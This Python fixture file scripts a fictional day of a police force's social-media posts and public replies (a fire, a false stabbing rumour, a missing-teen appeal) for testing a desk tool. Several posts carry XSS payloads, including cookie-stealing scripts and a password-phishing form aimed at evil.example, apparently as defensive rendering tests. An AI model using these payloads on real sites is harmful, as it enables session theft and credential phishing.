    "fire_schools": (
        "Thank you, was so worried",
        "Why has the school not texted us?",
        "Good to know, thanks",
        "Can we pick them up early or not?",
    ),
    "fire_public": (
        "Stay safe",
        "Can see it from Gosforth too",
        "My mate says it's the old paint warehouse",
        "Don't spread rumours please",
        "Any news on the Tyne Bridge?",
        "Scary",
        "Hope no one's inside",
        "Same here, smoke everywhere",
        "Police say avoid the area",
        "Roads are a nightmare",
        "Close your windows",
    ),
    "fire_video": (
        "Wow 😳",
        "Crazy footage",
        "Hope everyone's ok",
        "Is that Forge Lane?",
        "Can see it from my house",
        "Respect to the firefighters",
        "Thanks for the update",
        "Stay safe everyone",
        "Subscribed for updates",
        "That smoke is insane",
        "What a mess",
        "Don't fly a drone near fire crews mate",
    ),
    "suspect": (
        "You can't just name people like that",
        "Delete this, you don't know that",
        "Source?",
        "This is how innocent people get hurt. Take it down.",
        "Let the police do their job",
        "Reported",
        "Mate that's defamation",
    ),
    "drinkdrive_video": (
        "Powerful video",
        "Good message",
        "Should be shown in schools",
        "Heartbreaking",
        "Don't do it folks",
    ),
}

#: Topic -> reply family, for topics whose replies are shared.
REPLY_FAMILY: dict[str, str] = {
    "complaint_101": "complaint",
    "complaint_slow": "complaint",
    "complaint_parking": "complaint",
    "complaint_rude": "complaint",
    "road_question": "question",
    "bikes": "crime",
    "sheds": "crime",
    "car_crime": "crime",
    "asb": "crime",
    "link": "chatter",
    "fire_sighting": "fire_public",
    "fire_rumour": "fire_public",
    "fire_roads_q": "fire_public",
    "fire_traffic": "fire_public",
    "fire_schools_q": "fire_public",
    "fire_health": "fire_public",
    "fire_praise": "fire_public",
    "fire_worry": "fire_public",
    "fire_info": "fire_public",
    "fire_fade": "fire_public",
    "fire_foreign": "fire_public",
    "html": "generic",
    "foreign": "generic",
}

#: The force's answers to public posts.  ``{at}`` is the addressee (``@handle`` on X, the first
#: name on Facebook); ``{sig}`` the desk officer's initials.
ANSWERS: dict[str, tuple[str, ...]] = {
    "question": (
        "{at} Hi, you can report this online at https://www.northshire.police.uk/report or by"
        " calling 101. Always call 999 in an emergency. ^{sig}",
        "{at} Hi, thanks for getting in touch. Please send us a DM with a few more details and"
        " we'll point you in the right direction. ^{sig}",
        "{at} Hi, your neighbourhood team's contact details are on our website:"
        " https://www.northshire.police.uk/your-area ^{sig}",
    ),
    "complaint": (
        "{at} Sorry to hear this. Please DM us with your details and reference number and we'll look into it. ^{sig}",
        "{at} Hi, we're sorry you've had this experience. You can make a complaint online at"
        " https://www.northshire.police.uk/complaints or DM us and we'll help. ^{sig}",
        "{at} Hi, call volumes are very high today, sorry for the wait. You can also report"
        " online: https://www.northshire.police.uk/report ^{sig}",
    ),
    "crime": (
        "{at} Thanks for letting us know. Please report it via 101 or online so it can be logged"
        " and passed to the local neighbourhood team. ^{sig}",
        "{at} Sorry to hear this. If it's happening now please call 999. Otherwise report it"
        " online and DM us the reference. ^{sig}",
    ),
    "fire": (
        "{at} Please avoid the area and follow our updates. Road closures are listed here:"
        " https://www.northshire.police.uk/roads ^{sig}",
        "{at} The Tyne Bridge is open but very busy. Scotswood Road and Forge Lane are closed. ^{sig}",
        "{at} Schools in the area are open and pupils are safe; please follow the school's own messages. ^{sig}",
        "{at} There are no reports of anyone injured. Please don't share unconfirmed information. ^{sig}",
    ),
}

DESK_SIGNATURES = ("JR", "SK", "MT", "DB", "AL")

# --- texture -----------------------------------------------------------------------------------

#: Words that people stretch ("soooo").
STRETCH = {
    "so": "soooo",
    "please": "pleeeease",
    "thanks": "thaaanks",
    "why": "whyyyy",
    "love": "loooove",
    "ages": "ageeees",
    "awful": "awfuuul",
    "really": "reeeally",
    "massive": "massiiive",
}

#: Common informal spellings.
SLANG = {
    "you": "u",
    "your": "ur",
    "because": "cos",
    "definitely": "defo",
    "though": "tho",
    "the": "teh",
    "really": "rly",
    "people": "ppl",
    "tonight": "tonite",
    "thanks": "thx",
}

# --- the day's script ---------------------------------------------------------------------------
#
# Scheduled items.  ``author``: police / roads / council / fire / chronicle / drone / dashcam /
# public.  ``burst``: (number of replies, mean delay in minutes).  ``reply_to``: key of an
# earlier scripted item.  ``key``: name for later reference.

_LOG_APPEAL = "NP-20261118-1142"
_LOG_MISSING = "NP-20261120-0233"

SCRIPT: tuple[dict[str, Any], ...] = (
    # Overnight and early morning.
    {"at": "02:41", "platform": "x", "author": "roads", "topic": "roads", "burst": (4, 30),
     "text": "The Central Motorway northbound is closed between the Swing Bridge and Jesmond"
     " Road for resurfacing until 5am. Diversions are signed. #NorthshireRoads"},
    {"at": "03:12", "platform": "x", "author": "public", "topic": "html", "raw": True,
     "text": "test <script>alert(1)</script> @NorthshirePolice lol is this thing on"},
    {"at": "06:48", "platform": "x", "author": "roads", "topic": "roads", "burst": (10, 35),
     "key": "x_roads_am",
     "text": "Morning. A collision on Kenton Lane near the Stamfordham Road junction is causing"
     " delays. Nobody is seriously hurt. Please allow extra time. #NorthshireRoads"},
    {"at": "07:35", "platform": "x", "author": "police", "topic": "drinkdrive", "burst": (28, 60),
     "text": "This weekend our officers will be out across #Northshire as part of our winter"
     " drink-drive campaign. Planning a night out? Plan your way home. One drink can be one too"
     " many. 🚗🍺 #DrinkDrive {tco}"},
    {"at": "07:44", "platform": "facebook", "author": "police", "topic": "drinkdrive",
     "burst": (30, 90),
     "text": "🚗🍺 WINTER DRINK-DRIVE CAMPAIGN\n\nFrom tonight, officers will be running extra"
     " patrols and checks across Northshire. Every year people are killed and seriously"
     " injured on our roads by drivers who thought they were fine.\n\nIf you're going out this"
     " weekend, plan your way home. And remember the morning after - you may still be over"
     " the limit.\n\nIf you know someone is driving under the influence, call 101 or"
     " Crimestoppers anonymously on 0800 555 111. #DrinkDrive"},
    {"at": "08:45", "platform": "x", "author": "police", "topic": "appeal", "burst": (22, 60),
     "text": f"APPEAL | We're looking for witnesses after a man was assaulted near Grey's"
     f" Monument in the City Centre at around 11.30pm on Wednesday 18 November. Anyone with"
     f" information, call 101 quoting log {_LOG_APPEAL} or DM us. {{tco}}"},
    {"at": "08:53", "platform": "facebook", "author": "police", "topic": "appeal",
     "burst": (32, 90),
     "text": f"APPEAL FOR WITNESSES 🔎\n\nA 34-year-old man suffered facial injuries after he"
     f" was assaulted near Grey's Monument in the City Centre at around 11.30pm on Wednesday 18"
     f" November.\n\nWe'd like to speak to anyone who saw what happened, or who has phone or"
     f" dashcam footage from Blackett Street or Grainger Street at the time.\n\nCall 101 quoting"
     f" log {_LOG_APPEAL}, send us a message, or contact Crimestoppers anonymously."},
    {"at": "09:18", "platform": "x", "author": "public", "topic": "rumour_kenton", "key": "kenton",
     "text": "Armed police in Kenton?? Loads of them on Kenton Lane, anyone know what's happening"
     " @NorthshirePolice"},
    {"at": "09:30", "platform": "youtube", "author": "police", "kind": "video",
     "topic": "byker_video", "key": "yt_byker", "burst": (24, 150),
     "title": "Meet your Byker neighbourhood team",
     "text": "Sgt Lowther, PC Dobson and PCSOs Khan and Reid introduce the Byker neighbourhood"
     " team: who they are, what they're working on around the Byker Wall estate and Shields"
     " Road, and how to get in touch. Report non-emergencies online at"
     " https://www.northshire.police.uk/report or call 101. In an emergency always call 999."},
    {"at": "09:33", "platform": "x", "author": "police", "topic": "byker_video",
     "burst": (12, 60),
     "text": "Meet your Byker neighbourhood team! 👮‍♀️👮 Sgt Lowther, PC Dobson and PCSOs Khan"
     " and Reid tell you what they're working on around Byker Wall and how to get in touch."
     " Watch: https://www.youtube.com/watch?v={yt_byker} #Byker"},
    {"at": "09:41", "platform": "facebook", "author": "police", "topic": "byker_video",
     "burst": (22, 90),
     "text": "👋 Meet your Byker neighbourhood team! Sgt Lowther, PC Dobson and PCSOs Khan and"
     " Reid have made a short video about what they're working on and how you can get in touch."
     " https://www.youtube.com/watch?v={yt_byker}"},
    {"at": "09:52", "platform": "x", "author": "police", "reply_to": "kenton",
     "topic": "rumour_rebuttal",
     "text": "{at} Nothing to worry about - officers are carrying out a pre-planned warrant in"
     " Kenton this morning. Thanks for checking with us rather than guessing. ^JR"},
    {"at": "10:18", "platform": "x", "author": "police", "topic": "missing", "burst": (40, 90),
     "appeal": 9.0,
     "text": f"MISSING | Can you help us find 15-year-old Kayla from Fenham? She was last seen"
     f" at around 7.30am today on Fenham Hall Drive wearing a pink coat and grey joggers. She"
     f" has links to Byker and the City Centre. Call 101 quoting log {_LOG_MISSING}. Please"
     f" share. {{tco}}"},
    {"at": "10:24", "platform": "facebook", "author": "police", "topic": "missing",
     "burst": (75, 100), "appeal": 9.0,
     "text": f"❗ MISSING - PLEASE SHARE ❗\n\nWe're concerned for the welfare of Kayla, 15,"
     f" from Fenham.\n\nKayla was last seen at around 7.30am today on Fenham Hall Drive. She is"
     f" white, 5ft 4in, of slim build with long dark hair, and was wearing a pink coat, grey"
     f" joggers and white trainers. She has links to Byker and the City Centre.\n\nIf you've"
     f" seen Kayla or know where she might be, please call 101 quoting log {_LOG_MISSING}. In an"
     f" emergency call 999."},
    {"at": "10:41", "platform": "x", "author": "public", "topic": "html", "raw": True,
     "text": "@NorthshirePolice your report form is broken, it showed me this:"
     " <img src=x onerror=alert(document.domain)>"},
    # The Benwell "stabbing" rumour, which is false.
    {"at": "10:48", "platform": "x", "author": "public", "topic": "rumour_benwell",
     "key": "benwell1", "place": "Benwell", "appeal": 2.0, "burst": (7, 30),
     "text": "Someone's been stabbed in Benwell?? Police everywhere on Adelaide Terrace"
     " @NorthshirePolice"},
    {"at": "10:58", "platform": "facebook", "author": "public", "kind": "visitor_post",
     "topic": "rumour_benwell", "key": "benwell_fb", "appeal": 2.0, "burst": (9, 35),
     "text": "Does anyone know what's happened in Benwell? Heard someone got stabbed, loads of"
     " police cars on Adelaide Terrace"},
    {"at": "11:07", "platform": "x", "author": "public", "topic": "rumour_benwell",
     "appeal": 1.5, "burst": (4, 30),
     "text": "my cousin says a lad got stabbed outside the shops in Benwell 😳 #Northshire"},
    {"at": "11:21", "platform": "x", "author": "public", "topic": "rumour_benwell",
     "reply_to": "benwell1",
     "text": "{at} I heard it was a knife fight, 2 people in hospital"},
    {"at": "11:36", "platform": "x", "author": "public", "topic": "rumour_benwell",
     "rant": True, "appeal": 1.5, "burst": (3, 30),
     "text": "Stabbing in Benwell and not a word from @NorthshirePolice. typical"},
    {"at": "11:40", "platform": "x", "author": "police", "topic": "bikes_op", "burst": (26, 60),
     "text": "Officers from our Walker team seized two off-road bikes this morning after"
     " reports of them being ridden dangerously on the Walker Road estate. Keep the reports"
     " coming - you can tell us anonymously via Crimestoppers on 0800 555 111. #Walker"},
    {"at": "11:49", "platform": "facebook", "author": "public", "topic": "rumour_benwell",
     "reply_to": "benwell_fb",
     "text": "My neighbour said there was blood everywhere, keep your kids in"},
    {"at": "11:55", "platform": "facebook", "author": "police", "topic": "bikes_op",
     "burst": (36, 70),
     "text": "🏍️ TWO OFF-ROAD BIKES SEIZED IN WALKER\n\nFollowing reports from residents,"
     " officers seized two off-road bikes this morning that had been ridden dangerously across"
     " the Walker Road estate and through Walker Park.\n\nWe know how much misery these bikes"
     " cause. Please keep telling us where they're being stored and ridden - call 101 or"
     " Crimestoppers anonymously on 0800 555 111."},
    {"at": "12:14", "platform": "x", "author": "public", "topic": "rumour_benwell",
     "appeal": 1.5,
     "text": "is it safe to walk to school pick up in Benwell?? heard about the stabbing"
     " @NorthshirePolice"},
    {"at": "12:20", "platform": "facebook", "author": "public", "kind": "visitor_post",
     "topic": "html", "raw": True,
     "text": "Click here for what really happened in Benwell"
     ' <a href="javascript:alert(1)">FULL STORY</a>'},
    {"at": "12:57", "platform": "x", "author": "police", "topic": "rumour_rebuttal",
     "burst": (18, 40),
     "text": "We're aware of rumours on social media about a stabbing in Benwell this morning."
     " We can confirm there was NO stabbing. Officers attended a report of a disturbance on"
     " Adelaide Terrace shortly after 10.30am; nobody was injured. Please don't share"
     " unverified information. #Benwell"},
    {"at": "13:02", "platform": "facebook", "author": "police", "topic": "rumour_rebuttal",
     "burst": (28, 50),
     "text": "ℹ️ BENWELL - NO STABBING\n\nWe're aware of posts circulating this morning"
     " claiming someone was stabbed in Benwell. This is not true.\n\nOfficers attended a report"
     " of a disturbance at an address on Adelaide Terrace shortly after 10.30am. Nobody was"
     " injured and enquiries are ongoing.\n\nPlease think before you share - rumours like this"
     " cause real worry in our communities."},
    {"at": "13:05", "platform": "youtube", "author": "police", "kind": "video",
     "topic": "drinkdrive_video", "key": "yt_drink", "burst": (12, 150),
     "title": "It's not worth it: our winter drink-drive campaign",
     "text": "Every winter, people in Northshire are killed or seriously injured by drink and"
     " drug drivers. Hear from a family who lost their dad, and from the officers who have to"
     " knock on the door. #DrinkDrive"},
    {"at": "13:16", "platform": "youtube", "author": "public", "kind": "comment",
     "reply_to": "yt_byker", "topic": "html", "raw": True,
     "text": "<b>Great</b> video <script>document.location='https://evil.example/?c='"
     "+document.cookie</script>"},
    {"at": "13:25", "platform": "x", "author": "police", "topic": "sheds", "burst": (16, 50),
     "text": "Shed break-ins in Gosforth 🔐 We've had reports of sheds and garages being"
     " targeted overnight. Our team will be at Gosforth library from 4pm to 6pm today with free"
     " shed alarms and property marking. Pop in and see us! #Gosforth"},
    {"at": "13:31", "platform": "facebook", "author": "police", "topic": "sheds",
     "burst": (20, 60),
     "text": "🔐 SHED AND GARAGE BREAK-INS - GOSFORTH\n\nWe've had several reports of sheds and"
     " garages being broken into overnight in Gosforth, with bikes, mowers and power tools"
     " taken.\n\nCome and see our neighbourhood team at Gosforth library between 4pm and 6pm"
     " today for free shed alarms, property marking and crime prevention advice."},
    {"at": "14:10", "platform": "x", "author": "police", "topic": "event", "burst": (14, 60),
     "text": "This Saturday 10am-2pm we'll be at Heaton Park for our community fun day 🎉 Bike"
     " marking, meet the horses and dogs, and have a sit in a police car. Everyone welcome!"
     " #Heaton #Northshire"},
    {"at": "14:16", "platform": "facebook", "author": "police", "topic": "event",
     "burst": (22, 80),
     "text": "🎉 COMMUNITY FUN DAY - HEATON PARK\n\nJoin us this Saturday from 10am to 2pm at"
     " Heaton Park. There'll be free bike marking, our mounted section and dog unit, a chance to"
     " sit in a police car, and our neighbourhood teams to chat to. Everyone welcome!"},
    # The fire.
    {"at": "14:38", "platform": "x", "author": "public", "topic": "fire_sighting",
     "place": "Elswick",
     "text": "Loads of smoke coming from down by the river near Elswick?? What's going on"
     " @NorthshirePolice"},
    {"at": "14:58", "platform": "x", "author": "police", "topic": "fire_force", "key": "x_fire1",
     "burst": (85, 45), "appeal": 12.0,
     "text": "We're aware of a large fire at a commercial premises near the Quayside / Elswick"
     " area. Emergency services are at the scene. Please AVOID THE AREA and keep windows and"
     " doors closed if you live nearby. Further updates to follow. #Northshire"},
    {"at": "15:02", "platform": "facebook", "author": "police", "topic": "fire_force",
     "key": "fb_fire1", "burst": (95, 55), "appeal": 12.0,
     "text": "⚠️ LARGE FIRE - ELSWICK / QUAYSIDE ⚠️\n\nEmergency services are dealing with a"
     " large fire at a commercial premises near the Quayside and Elswick.\n\nPlease AVOID THE"
     " AREA, and if you live nearby keep your windows and doors closed.\n\nWe'll update this"
     " page as soon as we can."},
    {"at": "15:05", "platform": "x", "author": "fire", "topic": "fire_fire", "burst": (40, 45),
     "appeal": 6.0,
     "text": "We're dealing with a large fire involving a warehouse off Forge Lane, Elswick. 12"
     " fire engines and an aerial ladder platform are in attendance. Please avoid the area and"
     " keep windows and doors closed. @NorthshirePolice"},
    {"at": "15:12", "platform": "x", "author": "roads", "topic": "fire_roads", "key": "x_roads1",
     "burst": (70, 45), "appeal": 9.0,
     "text": "ROAD CLOSURES | Due to a large fire, Forge Lane, Scotswood Road (Elswick to the"
     " Quayside) and the Quayside east of the Swing Bridge are CLOSED. The Tyne Bridge remains"
     " OPEN but expect heavy delays. Please avoid the area. {tco}"},
    {"at": "15:15", "platform": "x", "author": "chronicle", "topic": "fire_news",
     "burst": (30, 40), "appeal": 5.0,
     "text": "BREAKING: Huge fire at Elswick warehouse sends smoke across the Quayside. Roads"
     " closed and @NorthshirePolice urge people to avoid the area. Live updates: {chron}"
     " #Northshire"},
    {"at": "15:26", "platform": "youtube", "author": "chronicle", "kind": "video",
     "topic": "fire_video", "key": "yt_chron", "burst": (45, 70),
     "title": "LIVE: Huge fire at warehouse near Elswick - smoke over the Quayside",
     "text": "Live pictures from the scene of a large warehouse fire off Forge Lane in Elswick."
     " Roads are closed around the Quayside. Latest: https://www.northshirechronicle.co.uk/"},
    {"at": "15:38", "platform": "x", "author": "council", "topic": "fire_schools",
     "burst": (30, 40), "appeal": 6.0,
     "text": "Schools near the fire in Elswick are open and all pupils are safe. Pupils are"
     " being kept indoors as a precaution. Parents, please do not travel to the area unless"
     " your school contacts you. #Northshire @NorthshirePolice"},
    {"at": "15:44", "platform": "facebook", "author": "police", "topic": "fire_roads",
     "burst": (62, 50), "appeal": 9.0,
     "text": "🚧 ROAD CLOSURES - ELSWICK FIRE\n\nThe following roads are CLOSED:\n• Forge Lane\n"
     "• Scotswood Road between Elswick and the Quayside\n• The Quayside east of the Swing"
     " Bridge\n\nThe Tyne Bridge is OPEN but very busy. Please avoid the area and allow extra"
     " time for your journey home."},
    {"at": "15:48", "platform": "x", "author": "public", "topic": "suspect", "appeal": 2.5,
     "burst": (6, 25),
     "text": "It was {fake}, everyone round Elswick knows he's been threatening to torch that"
     " place for months #Northshire"},
    {"at": "15:52", "platform": "youtube", "author": "drone", "kind": "video",
     "topic": "fire_video", "key": "yt_drone", "burst": (55, 70),
     "title": "MASSIVE FIRE in Northshire right now 🔥 drone footage over Elswick",
     "text": "Flew up from a safe distance (outside the cordon!) to get this. Huge warehouse"
     " fire near the Quayside, smoke visible for miles. Stay safe everyone. #Northshire"},
    {"at": "16:06", "platform": "facebook", "author": "public", "topic": "suspect",
     "reply_to": "fb_fire1", "appeal": 2.5,
     "text": "The owner's son {fake} did it for the insurance, watch. Everyone knows"},
    {"at": "16:12", "platform": "x", "author": "public", "topic": "suspect", "appeal": 2.5,
     "burst": (5, 25),
     "text": "Police have arrested {fake} from Benwell for the fire apparently @NorthshirePolice"},
    {"at": "16:22", "platform": "x", "author": "public", "topic": "html", "raw": True,
     "text": "\"><svg/onload=alert('fire')> #Northshire"},
    {"at": "16:26", "platform": "x", "author": "public", "topic": "suspect", "appeal": 2.5,
     "burst": (4, 25),
     "text": "Everyone knows it was {fake}. Name and shame #Northshire"},
    {"at": "16:32", "platform": "x", "author": "police", "topic": "fire_update",
     "key": "x_fire2", "burst": (75, 50), "appeal": 12.0,
     "text": "UPDATE | Fire crews remain at the scene of the warehouse fire in Elswick. There"
     " are currently NO reports of anyone injured. Please don't speculate about the cause or"
     " name individuals online - an investigation will take place once the fire is out. Roads"
     " remain closed. #Northshire"},
    {"at": "16:38", "platform": "facebook", "author": "police", "topic": "fire_update",
     "burst": (70, 60), "appeal": 12.0,
     "text": "UPDATE - ELSWICK FIRE\n\nFire crews are still at the scene. We're relieved to say"
     " there are NO reports of anyone being injured.\n\nWe've seen posts naming people as being"
     " responsible. Please stop. Nobody has been arrested, the cause is not yet known, and"
     " naming people online can put them at risk and damage any future investigation.\n\nRoads"
     " remain closed - please continue to avoid the area."},
    {"at": "16:45", "platform": "youtube", "author": "dashcam", "kind": "video",
     "topic": "fire_video", "key": "yt_dashcam", "burst": (22, 60),
     "title": "Tyne Bridge traffic CHAOS during the Elswick fire (dashcam)",
     "text": "45 minutes to cross the Tyne Bridge tonight. Smoke from the Elswick fire the whole"
     " way. Drive safe #Northshire"},
    {"at": "16:50", "platform": "facebook", "author": "public", "topic": "html", "raw": True,
     "reply_to": "fb_fire1",
     "text": '<iframe src="javascript:alert(`xss`)"></iframe> the truth about the fire'},
    {"at": "16:58", "platform": "youtube", "author": "public", "kind": "comment",
     "reply_to": "yt_drone", "topic": "suspect", "appeal": 2.0,
     "text": "That's {fake}'s unit, he's done this for the money 100%"},
    {"at": "17:05", "platform": "x", "author": "public", "topic": "suspect", "appeal": 2.0,
     "text": "Funny how {fake} has gone quiet on Facebook since this started. #Northshire"},
    {"at": "17:20", "platform": "youtube", "author": "police", "kind": "video",
     "topic": "fire_update", "key": "yt_update", "burst": (50, 70),
     "title": "Update: warehouse fire in Elswick - Supt Clare Hedley",
     "text": "Superintendent Clare Hedley with the latest on the warehouse fire in Elswick, the"
     " road closures around the Quayside, and what to do if smoke is affecting you. Please"
     " avoid the area and don't share unconfirmed information."},
    {"at": "17:23", "platform": "x", "author": "police", "topic": "fire_update",
     "burst": (40, 50), "appeal": 8.0,
     "text": "UPDATE VIDEO | Superintendent Clare Hedley with the latest on the Elswick"
     " warehouse fire, road closures and what to do if smoke is affecting you."
     " https://www.youtube.com/watch?v={yt_update} #Northshire"},
    {"at": "17:27", "platform": "facebook", "author": "police", "topic": "fire_update",
     "burst": (38, 60), "appeal": 8.0,
     "text": "🎥 Superintendent Clare Hedley with the latest on the warehouse fire in Elswick."
     " https://www.youtube.com/watch?v={yt_update}"},
    {"at": "17:48", "platform": "x", "author": "fire", "topic": "fire_fire", "burst": (28, 50),
     "appeal": 5.0,
     "text": "The fire at the warehouse off Forge Lane is now under control. Crews will remain"
     " at the scene overnight damping down. Thank you for your patience. @NorthshirePolice"},
    {"at": "18:35", "platform": "x", "author": "roads", "topic": "fire_roads", "burst": (24, 45),
     "text": "UPDATE | Scotswood Road has now REOPENED. Forge Lane and the Quayside east of the"
     " Swing Bridge remain closed for now. Thanks for your patience this evening."},
    {"at": "18:40", "platform": "youtube", "author": "public", "kind": "comment",
     "reply_to": "yt_update", "topic": "html", "raw": True,
     "text": "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\"> fire update when"},
    {"at": "19:42", "platform": "x", "author": "police", "topic": "missing_found",
     "burst": (32, 45),
     "text": "UPDATE | We're pleased to say Kayla, 15, from Fenham has been found safe and well."
     " Thank you to everyone who shared our appeal. ❤️"},
    {"at": "19:46", "platform": "facebook", "author": "police", "topic": "missing_found",
     "burst": (60, 50),
     "text": "✅ FOUND - Kayla, 15, from Fenham has been found safe and well. Thank you to"
     " everyone who shared our appeal ❤️"},
    {"at": "20:40", "platform": "x", "author": "roads", "topic": "fire_roads", "burst": (10, 40),
     "text": "All roads around the Elswick fire have now REOPENED except Forge Lane, which will"
     " stay closed overnight. Drive carefully. #NorthshireRoads"},
    {"at": "20:46", "platform": "facebook", "author": "police", "topic": "fire_roads",
     "burst": (20, 40),
     "text": "🚧 ROADS REOPENED\n\nAll roads around the Elswick fire have now reopened except"
     " Forge Lane, which will remain closed overnight while fire crews damp down. Thank you for"
     " your patience today."},
    {"at": "21:15", "platform": "x", "author": "public", "topic": "html", "raw": True,
     "text": '<a href="javascript:alert(1)" onclick="alert(2)">click me</a> @NorthshirePolice'},
    {"at": "21:30", "platform": "x", "author": "police", "topic": "drinkdrive", "burst": (18, 40),
     "text": "Our officers are out across the City Centre and the Quayside tonight. Enjoy your"
     " Friday night, look after each other and plan your way home. #DrinkDrive #Northshire"},
    {"at": "21:36", "platform": "facebook", "author": "police", "topic": "drinkdrive",
     "burst": (18, 40),
     "text": "🌙 Heading into town tonight? Our officers are out across the City Centre and the"
     " Quayside. Look after each other, plan your way home, and never drink and drive."},
    {"at": "22:45", "platform": "x", "author": "roads", "topic": "drinkdrive", "burst": (10, 40),
     "text": "Drink-drive checks are taking place across #Northshire tonight. Don't risk it."
     " #DrinkDrive"},
)  # fmt: skip

#: Posts written to attack whatever shows them: HTML and script in display names, a video's title and
#: channel, markdown and bare `javascript:` / `data:` links, tags that break out of a textarea or title,
#: template syntax and already-escaped entities. Made after the day with their own random stream (see
#: `generate._hostile`), so adding one here changes no other post. `author` is a fixed account, or
#: "public" for one of the day's people. The desk must show every one of them as the text it is.
HOSTILE: tuple[dict[str, Any], ...] = (
    {"at": "09:17", "platform": "x",
     "author": {"id": "1688000000000000017", "handle": "totally_legit_1",
                "name": "<img src=x onerror=alert('name')>"},
     "text": "@NorthshirePolice why does my name break your website lol"},
    {"at": "11:52", "platform": "x", "author": "public",
     "text": "@NorthshirePolice the real Benwell statement: [read it](javascript:alert(document.cookie))"
     " or paste JaVaScRiPt:alert('bare') in your address bar, or open"
     " data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+"},
    {"at": "13:05", "platform": "facebook", "author": "public",
     "text": "</textarea></title><script>alert('breakout')</script><style>body{display:none}</style>"
     " {{7*7}} ${7*7} &lt;script&gt;alert('entity')&lt;/script&gt; will Northshire Police answer this?"},
    {"at": "17:34", "platform": "youtube", "kind": "video",
     "author": {"id": "UCq8hostileQuaysideFoot0", "handle": "quaysidefootage",
                "name": "<svg onload=alert('channel')>"},
     "title": "<script>alert('title')</script> Northshire Police fire footage",
     "text": "<a href=\"javascript:alert('description')\">Northshire Police</a> raw footage of the Quayside fire"
     " <form action=\"https://evil.example/\"><input name=password placeholder=\"desk password\"></form>"},
    {"at": "20:12", "platform": "facebook", "author": "public",
     "text": "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('meta')\"><base href=\"https://evil.example/\">"
     "<link rel=stylesheet href=\"https://evil.example/x.css\"> Northshire Police please read"},
)  # fmt: skip
